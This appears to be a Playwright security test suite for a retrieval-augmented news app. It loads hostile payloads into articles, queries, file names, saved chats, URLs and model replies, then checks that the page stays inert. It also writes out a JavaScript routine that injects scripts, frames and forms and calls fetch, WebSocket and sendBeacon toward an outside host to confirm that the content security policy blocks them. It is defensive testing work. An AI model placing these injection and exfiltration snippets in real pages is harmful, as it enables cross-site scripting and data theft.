"""Articles, questions, names of files and kept conversations that attack the page, through every view of it."""

from __future__ import annotations

import contextlib
import hashlib
import json
import socket
from collections.abc import Iterator, Sequence
from urllib.parse import quote

import pytest
from chromium import MARKS, WATCH, about, ask, chromium, noting, opened, ours, view, width_scrolled
from made_hostile import FILE_NAMES, PAYLOADS, URLS
from made_views import settings
from model_server import ModelServer, answers, says
from page_server import PageServer
from serving import serving

from rag import intake
from rag.api import create_app
from rag.embedding import Embedder
from rag.pipeline import Pipeline
from rag.types import Answer, Article, Citation, Disagreement, Position, Statement
from rag.ui import mount, reading, talk
from rag.ui.talk import Exchange, Talk

pytestmark = MARKS

# Where words of others are shown: there, only elements and attributes that our own HTML is made of.
PLACES = (
    ":is(#masthead, #chat .message-wrap, #latest, #earlier, #limits, #coverage-shown, #timeline-shown, #shelf-list, "
    "#shelf-added) .prose, #kept, #shelf-files .file-preview, #reader .scroller, #peek, main#article"
)
TAGS = """a article b bdi blockquote button caption code dd details div dl dt h1 h2 h3 header li mark nav ol p progress
q s section span strong summary table tbody td th thead time tr ul""".split()
ATTRIBUTES = """aria-current aria-describedby aria-label aria-live class colspan data-read data-reached data-testid dir
datetime href id max open rel role scope style tabindex target title type value lang hidden""".split()
IDS = r"^(mark|evidence)-(\d+|coverage|timeline)-\d+$|^shelf-add$|^quote$|^component-\d+$|^$"
AMISS = """([places, tags, attributes, ids]) => {
  const amiss = [];
  for (const place of document.querySelectorAll(places)) for (const e of place.querySelectorAll('*')) {
    const told = e.outerHTML.slice(0, 200);
    const drawn = e.closest('#shelf-files'); // by Gradio
    if (!tags.includes(e.localName) && !drawn) amiss.push(`element: ${told}`);
    for (const {name, value} of e.attributes) {
      if (/^on/i.test(name) || !(attributes.includes(name) || drawn)) amiss.push(`attribute ${name}: ${told}`);
      if (name === 'style' && /url|expression|fixed|behavior|evil/i.test(value)) amiss.push(`style: ${told}`);
      if (name === 'id' && !RegExp(ids).test(value)) amiss.push(`id: ${told}`);
    }
    if (e.localName === 'a' && e.hasAttribute('href')) {
      if (!['http:', 'https:'].includes(e.protocol)) amiss.push(`address: ${told}`);
      if (e.origin !== location.origin && !/noopener/.test(e.rel)) amiss.push(`opener: ${told}`);
    }
    if (getComputedStyle(e).position === 'fixed') amiss.push(`overlay: ${told}`);
  }
  for (const id of ['chat', 'question', 'latest', 'reader', 'peek', 'location', 'quote', 'attributes'])
    if (document.querySelectorAll(`#${id}, [name="${id}"]`).length > 1) amiss.push(`clobbered: ${id}`);
  if (document.querySelector('[srcdoc], [formaction], [http-equiv=refresh], [src*=evil], link[href*=evil], object'))
    amiss.push('something of theirs is in the page');
  if (window.hacked !== undefined || Object.prototype.hacked !== undefined) amiss.push('a script ran');
  return [...amiss, ...window.refused];
}"""

# The first of the names has all exchanges, each other one the last.
KEEP = """([names, filters, exchanges, titles]) => names.forEach((name, at) => {
  const talk = {name, title: titles[at], exchanges: exchanges.slice(at && -1), dropped: 0, filters, changed: 1000 - at};
  localStorage.setItem(`crosscheck.talk.${name}`, JSON.stringify(talk));
})"""


def batches(payloads: Sequence[str], size: int) -> list[str]:
    """Payloads side by side: what one opens, another may close."""
    return [" ".join(payloads[start : start + size]) for start in range(0, len(payloads), size)]


def hostile(number: int, payloads: Sequence[str]) -> Article:
    """An article whose every field attacks: verbatim, as no reader of files would let it in."""
    sentences = [f"Keeper Ada Holm closed the harbour of Osterby {payload} on Monday." for payload in payloads]
    text = "\n\n".join(sentences)
    words = " ".join(payloads)
    return Article(
        id=" ".join(f"{number} {payloads[0]}".split()),
        revision=hashlib.sha256(text.encode()).hexdigest()[:16],
        text=text,
        source=f"file:/{words}",
        ingested_at="2025-01-01T00:00:00+00:00",
        title=f"{number} {words}",
        outlet=f"{number} {payloads[-1]}",
        author=words,
        url=URLS[number % len(URLS)],
        published_at="2024-12-02",
    )


EACH = 12  # payloads in an article
ARTICLES = [hostile(at // EACH, PAYLOADS[at : at + EACH]) for at in range(0, len(PAYLOADS), EACH)]
QUESTIONS = [f"Who closed the harbour of Osterby? {batch}" for batch in batches(PAYLOADS, 15)]


@pytest.fixture(scope="module")
def pipeline(tmp_path_factory: pytest.TempPathFactory, embedder: Embedder) -> Iterator[Pipeline]:
    with Pipeline(settings(tmp_path_factory.mktemp("library")), embedder=embedder) as pipeline:
        with pipeline.store.writing() as writer:
            for article in ARTICLES:
                passages = intake.passages(article, embedder)
                writer.put(article, passages, intake.embed(passages, embedder))
        yield pipeline


@pytest.fixture(scope="module")
def address(pipeline: Pipeline) -> Iterator[str]:
    with serving(mount(create_app(pipeline), pipeline)) as url:
        yield url


@pytest.fixture(scope="module")
def context():
    with chromium() as browser:
        yield browser.new_context(viewport={"width": 1440, "height": 900}, reduced_motion="reduce")


@pytest.fixture
def page(context, address: str):
    page = context.new_page()
    wrong = noting(page, address)
    opened(page, address)
    yield page
    inert(page)
    page.close()
    assert wrong == []


def inert(page) -> None:
    """Nothing of theirs is in the page but words, and it is no wider than its window."""
    assert page.evaluate(AMISS, [PLACES, TAGS, ATTRIBUTES, IDS]) == []
    assert width_scrolled(page) == 0
    assert page.title().endswith("Crosscheck")


def words(text: str) -> str:
    """A text as HTML can carry it: control characters and white space alike."""
    return "".join(one for one in text if one.isprintable() and not one.isspace() and one != "\ufffd")


def test_there_are_enough_payloads_and_no_question_is_too_long_to_be_asked():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 150
    assert max(map(len, QUESTIONS)) < 2_000


def test_articles_and_questions_attack_the_conversation(page, pipeline: Pipeline):
    ask(page, "Who closed the harbour of Osterby?")
    assert page.locator("#chat a.mark").count() and page.locator("#evidence .card").count()
    inert(page)
    for question in QUESTIONS:
        ask(page, question.replace("\x00", ""))
    assert page.locator("#chat .question").count() == 1 + len(QUESTIONS)
    shown = words(page.locator("#chat .question").last.text_content())
    assert words(QUESTIONS[-1])[:200] in shown
    inert(page)
    page.keyboard.press("Tab")  # now the page stays where the reader is
    page.hover("#mark-1-1")
    page.wait_for_selector("#peek:not([hidden])")
    page.click("#chat .edit >> nth=1")
    page.click("#chat .editing button:has-text('Cancel')")
    page.click("#chat .tool.topic[href='#coverage'] >> nth=-1")
    page.wait_for_selector("#coverage-shown :is(.card, .aside, .trouble)")


@pytest.mark.parametrize("name", ["coverage", "timeline"])
def test_topics_attack_their_view(page, name: str):
    view(page, {"coverage": "Who says what", "timeline": "Timeline"}[name])
    about(page, name, "harbour of Osterby")
    page.wait_for_selector(f"#{name}-shown .card")
    inert(page)
    for batch in batches(PAYLOADS, 24):
        about(page, name, "zzqx")
        page.wait_for_selector(f"#{name}-shown .aside:has-text('zzqx')")
        about(page, name, batch.replace("\x00", "")[:1900])
        page.wait_for_selector(f"#{name}-shown :has-text('zzqx')", state="detached")
        inert(page)


def test_titles_words_and_files_attack_the_library(page):
    view(page, "Library")
    page.wait_for_selector("#shelf-list .rows")
    assert page.locator("#shelf-list .rows > li").count() == len(ARTICLES)
    page.click("#shelf-list a.remove >> nth=3")
    page.wait_for_selector("#shelf-list .sure")
    inert(page)
    for batch in batches(PAYLOADS, 24):
        page.fill("#shelf-words input", batch[:200])
        page.wait_for_selector("#shelf-list .tally q")
        inert(page)
    page.set_input_files(
        "#shelf-files input[type=file]",
        [{"name": name, "mimeType": "text/plain", "buffer": b"Rain."} for name in FILE_NAMES],
    )
    page.wait_for_selector("#shelf-files table")
    inert(page)
    page.fill("#shelf-addresses textarea", "\n".join(payload.replace("\n", " ") for payload in PAYLOADS))
    page.click("#shelf-add-button")
    page.wait_for_selector("#shelf-added .refused")


def test_one_article_is_limited_to_and_shown_among_the_limits(page):
    view(page, "Library")
    page.wait_for_selector("#shelf-list .rows")
    page.click("#shelf-list .deeds a.do:not(.remove) >> nth=2")
    page.wait_for_selector("#limits .chip")
    page.click("#filters > button")
    for box in ("#outlets input", "#article input"):
        page.click(box)
        page.wait_for_selector(".option-list")
        assert page.locator(".option-list :not(li, span)").count() == 0
        page.keyboard.press("Escape")
    inert(page)


def attacking(number: int, attack: str) -> Exchange:
    """An exchange as a browser may say that it kept it: an attack in every field."""
    article = ARTICLES[number % len(ARTICLES)]
    cited = Citation(
        number=1,
        article_id=attack,
        revision=attack,
        start=0,
        end=10,
        quote=attack,
        title=attack,
        outlet=attack,
        url=URLS[number % len(URLS)],
        published_at=attack,
        speaker=attack,
        event_date=attack,
    )
    side = Position(claim=attack, citation=1, outlet=attack, speaker=attack, date=attack)
    answer = Answer(
        question=attack,
        standalone_question=f"{attack}?",
        text=attack,
        statements=(
            Statement(text=attack, citations=(1,), support="supported"),
            Statement(text=attack, citations=(1, 7), support="unsupported", reason=attack),
        ),
        citations=(cited,),
        disagreements=(Disagreement(about=f"on {attack}", positions=(side, side)),),
        unanswered=(attack,),
        nearest=(cited,),
        notice=attack,
        as_of=attack,
        reason=article.id,
        model=attack,
    )
    return Exchange(question=attack, answer=answer, suggestions=(attack,))


def test_kept_conversations_attack_the_page(page):
    exchanges = [attacking(number, batch) for number, batch in enumerate(batches(PAYLOADS, 10))]
    records = [json.loads(talk.kept(Talk(exchanges=(one,)))) for one in exchanges]
    plain = [{**record["exchange"], "markdown": record["markdown"]} for record in records]
    page.evaluate("localStorage.clear()")  # of what the tests before have kept
    page.evaluate(KEEP, [["kept", *PAYLOADS[:20]], records[0]["filters"], plain, batches(PAYLOADS, 7)[:21]])
    for broken in ("{", "null", "[]", '{"exchanges": 1}', '{"exchanges": [], "title": {"toString": 1}}'):
        page.evaluate("text => localStorage.setItem(`crosscheck.talk.${text}`, text)", broken)
    page.reload()
    page.wait_for_selector("#kept button.talk")
    assert page.locator("#kept button.talk").count() >= 21
    inert(page)
    page.click("#kept button.talk >> nth=0")
    page.wait_for_selector(f"#chat .answer >> nth={len(exchanges) - 1}")
    assert page.locator("#chat table.disagreement").count() == len(exchanges)
    inert(page)
    for row in page.locator("#evidence details summary").all()[:3]:
        row.click()
    inert(page)
    page.evaluate("localStorage.clear()")


def test_articles_attack_their_reading_page_and_the_pane(page, address: str):
    view(page, "Library")
    page.wait_for_selector("#shelf-list .rows")
    for number in range(len(ARTICLES)):
        page.click(f"#shelf-list h3 a.read >> nth={number}")
        page.wait_for_selector("#reader .reading .text")
        inert(page)
    page.keyboard.press("Escape")
    for article in ARTICLES:
        page.goto(f"{address}/{reading.href(article.id, revision=article.revision, start=0, end=60)}")
        assert page.locator("main#article mark.quote").count() >= 1
        assert words(page.locator("main#article .text").text_content()) == words(article.text)
        inert(page)
    opened(page, address)


def test_a_model_attacks_the_conversation(context, pipeline: Pipeline):
    """What it writes is shown as it comes and, as no article says it, struck through at the end."""
    replies = [says(f"Keeper Ada Holm closed the harbour of Osterby {batch} [1].") for batch in batches(PAYLOADS, 20)]
    with ModelServer(*replies) as server:
        told = {"openai_base_url": server.base_url, "openai_model": PAYLOADS[0], "unsupported": "mark"}
        with (
            Pipeline(pipeline.settings.model_copy(update=told), embedder=pipeline.embedder) as modelled,
            serving(mount(create_app(modelled), modelled)) as url,
        ):
            page = context.new_page()
            wrong = noting(page, url)
            opened(page, url)
            for number in range(len(replies)):
                ask(page, f"Who closed the harbour of Osterby on Monday, and what was it number {number} for?")
                inert(page)
            assert len(server.requests) >= len(replies)
            assert "hacked" in page.locator("#chat").text_content()
            page.evaluate("localStorage.clear()")
            page.close()
            assert wrong == []


DOCUMENTS = (
    "/read/{}",
    "/read/x?revision={}&start={}&end={}&also={}&since={}",
    "/search?query={}",
    "/articles?words={}",
)
OPENED = """([tags]) => [window.hacked, location.origin, ...[...document.querySelectorAll('body *')]
  .filter(e => !tags.includes(e.localName) || [...e.attributes].some(({name}) => /^on/i.test(name)))
  .map(e => e.outerHTML)]"""


def test_addresses_attack_every_document_that_the_server_has(context, address: str):
    page = context.new_page()
    page.add_init_script(WATCH)
    elsewhere: list[str] = []
    page.on("request", lambda request: None if ours(request.url, address) else elsewhere.append(request.url))
    page.on("dialog", lambda shown: elsewhere.append(shown.message) or shown.dismiss())
    for batch in batches([payload.replace("\x00", "") for payload in PAYLOADS], 16):
        for document in DOCUMENTS:
            page.goto(address + document.replace("{}", quote(batch, safe="")))
            shown = page.evaluate(OPENED, [[*TAGS, "pre", "main", "div"]])
            assert shown == [None, address], document
        page.goto(f"{address}/?talk={quote(batch)}&__theme={quote(batch)}&deep_link={quote(batch)}#{batch}")
        page.wait_for_selector("#latest h2, #latest .trouble")
        inert(page)
    page.close()
    assert elsewhere == []


# What a script of somebody else's would try, were it to get into the page after all.
TRIES = """async elsewhere => {
  const tell = new Promise(done => setTimeout(done, 200));
  const added = (name, attributes, inner = '') => {
    const e = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) e.setAttribute(key, value);
    e.append(inner);
    document.body.append(e);
    return e;
  };
  added('script', {}, 'window.hacked = 1');
  added('script', {src: `${elsewhere}/a.js`});
  added('script', {src: 'data:text/javascript,window.hacked=1'});
  added('script', {src: URL.createObjectURL(new Blob(['window.hacked = 1']))});
  added('div', {onclick: 'window.hacked = 1'}).click();
  added('a', {href: 'javascript:window.hacked=1'}).click();
  added('iframe', {src: `${elsewhere}/`});
  added('iframe', {src: 'javascript:parent.hacked=1'});
  added('object', {data: `${elsewhere}/`});
  added('embed', {src: `${elsewhere}/`});
  added('img', {src: `${elsewhere}/i.png`});
  added('video', {src: `${elsewhere}/v.mp4`});
  added('link', {rel: 'stylesheet', href: `${elsewhere}/s.css`});
  added('style', {}, `@import '${elsewhere}/i.css'; @font-face {font-family: f; src: url('${elsewhere}/f')}`);
  added('p', {style: 'font-family: f'}, 'x');
  added('form', {action: `${elsewhere}/`, method: 'post'}).submit();
  const failed = []; // later: what a test does at once may evaluate
  const later = work => new Promise((done, fails) =>
    setTimeout(() => { try { done(work()); } catch (error) { fails(error); } }));
  for (const [name, attempt] of Object.entries({
    eval: () => later(() => eval('window.hacked = 1')),
    Function: () => later(() => new Function('window.hacked = 1')()),
    fetch: () => fetch(`${elsewhere}/f`, {mode: 'no-cors'}),
    socket: () => new Promise((opens, fails) => Object.assign(new WebSocket(elsewhere.replace('http', 'ws')),
      {onopen: opens, onerror: fails})),
    worker: () => new Promise((starts, fails) => Object.assign(new Worker('data:text/javascript,postMessage(1)'),
      {onmessage: starts, onerror: fails})),
  })) try { await attempt(); } catch { failed.push(name); }
  navigator.sendBeacon(`${elsewhere}/b`, 'x');
  await tell;
  return [failed, window.hacked ?? null, [...new Set(window.refused.map(one => one.split(' ')[0]))].sort()];
}"""


def test_the_policy_holds_for_a_script_that_got_in(context, address: str):
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        page = context.new_page()
        noting(page, address)
        opened(page, address)
        failed, hacked, refused = page.evaluate(TRIES, f"http://127.0.0.1:{elsewhere.getsockname()[1]}")
        page.close()
        assert failed == ["eval", "Function", "fetch", "socket", "worker"]
        assert hacked is None
        assert {"script-src-elem", "script-src-attr", "frame-src", "img-src", "connect-src", "form-action"} <= {
            *refused
        }
        assert {"style-src-elem", "media-src", "object-src"} <= {*refused}
        elsewhere.setblocking(False)  # a browser may open a connection in good time; nothing may be asked on it
        with contextlib.suppress(BlockingIOError):
            while True:
                met, _ = elsewhere.accept()
                with met, contextlib.suppress(BlockingIOError, ConnectionResetError):
                    met.setblocking(False)
                    assert met.recv(1 << 16) == b""


def test_no_other_page_frames_ours(context, address: str):
    framing = answers(f"<iframe src='{address}/'></iframe><iframe src='{address}/read/x'></iframe>", kind="text/html")
    with PageServer({"/": framing}) as elsewhere:
        page = context.new_page()
        page.goto(f"{elsewhere.base_url}/")
        assert all(frame.locator("main, #chat").count() == 0 for frame in page.frames[1:]) and len(page.frames) == 3
        page.close()
